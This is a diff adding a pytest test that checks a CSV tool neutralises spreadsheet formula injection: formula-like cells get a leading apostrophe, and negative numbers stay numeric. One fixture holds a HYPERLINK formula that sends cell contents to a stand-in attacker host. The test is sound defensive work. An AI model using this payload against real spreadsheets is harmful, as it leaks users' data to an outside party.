@@ -92,3 +92,22 @@ def test_unusable_files_are_named(tmp_path, name, message):
         (tmp_path / name).write_text("x")
     result = run_module(tmp_path / name, tmp_path / "out.csv")
     assert result.returncode == 1 and message in result.stderr
+
+
+def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    """The analysts' tool writes CSV by tpps.csvfile's rule too: a name typed as a formula arrives
+    as text, a negative number stays a number."""
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+    source = tmp_path / "in.csv"
+    with source.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(HEADER + ["Catatan", "@SUM(A1)"])
+        writer.writerow(GOOD + ["-2.5", "+62 812"])
+        writer.writerow([evil] + GOOD[1:] + ["-x", ""])
+    result = run_module(source, tmp_path / "out.csv")
+    assert result.returncode == 0, result.stderr
+    out = read_csv(tmp_path / "out.csv")
+    assert out[0][len(HEADER) + 1] == "'@SUM(A1)"
+    assert out[1][0] == "Budi" and out[1][len(HEADER)] == "-2.5" and out[1][len(HEADER) + 1] == "'+62 812"
+    assert out[2][0] == "'" + evil and out[2][len(HEADER)] == "'-x"
+    assert out[2][len(HEADER) + 3] == "-3.31"  # the z-score: a number, unquoted by the rule
